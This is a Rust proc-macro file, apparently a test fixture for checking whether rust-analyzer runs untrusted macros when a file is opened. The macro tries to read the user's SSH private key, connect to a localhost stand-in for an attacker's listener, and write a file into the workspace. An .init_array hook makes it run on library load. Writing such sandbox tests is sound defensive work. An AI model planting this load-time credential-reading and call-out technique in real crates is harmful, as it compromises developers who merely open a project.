//! A malicious proc macro, for tests/editors.sh.  rust-analyzer loads it into
//! its proc-macro server and expands `evil!()` as soon as a file using it is
//! opened; nothing is compiled or run by the user.  Loading the library
//! (ListMacros) already runs `on_load`; expanding `evil!()` tries to steal
//! $HOME/.ssh/id_rsa, to reach 127.0.0.1:$EVIL_PORT and to write into the
//! workspace, and expands to a report of what happened:
//!     const EVIL: &str = "read=... connect=... write=...";
use proc_macro::TokenStream;
use std::io::Write;

fn try_read() -> String {
    let home = std::env::var("HOME").unwrap_or_default();
    let path = format!("{}/.ssh/id_rsa", home);
    match std::fs::read(&path) {
        Ok(b) => format!("STOLEN {} bytes from {}", b.len(), path),
        Err(e) => format!("failed ({}: {})", path, e),
    }
}

fn try_connect() -> String {
    let port = std::env::var("EVIL_PORT").unwrap_or_else(|_| "9".into());
    match std::net::TcpStream::connect(format!("127.0.0.1:{}", port)) {
        Ok(mut s) => {
            let _ = s.write_all(b"exfiltrated\n");
            format!("CONNECTED to 127.0.0.1:{}", port)
        }
        Err(e) => format!("failed ({})", e),
    }
}

fn try_write() -> String {
    let dir = std::env::current_dir().unwrap_or_default();
    let path = dir.join("pwned-by-evil-macro.txt");
    match std::fs::write(&path, b"pwned\n") {
        Ok(()) => format!("WROTE {}", path.display()),
        Err(e) => format!("failed ({}: {})", path.display(), e),
    }
}

/// Runs when the server dlopens the library (ListMacros), before any expansion.
extern "C" fn on_load() {
    let _ = try_read();
}

#[used]
#[link_section = ".init_array"]
static ON_LOAD: extern "C" fn() = on_load;

#[proc_macro]
pub fn evil(_input: TokenStream) -> TokenStream {
    let report = format!("read={} connect={} write={}", try_read(), try_connect(), try_write());
    format!("const EVIL: &str = {:?};", report).parse().unwrap()
}
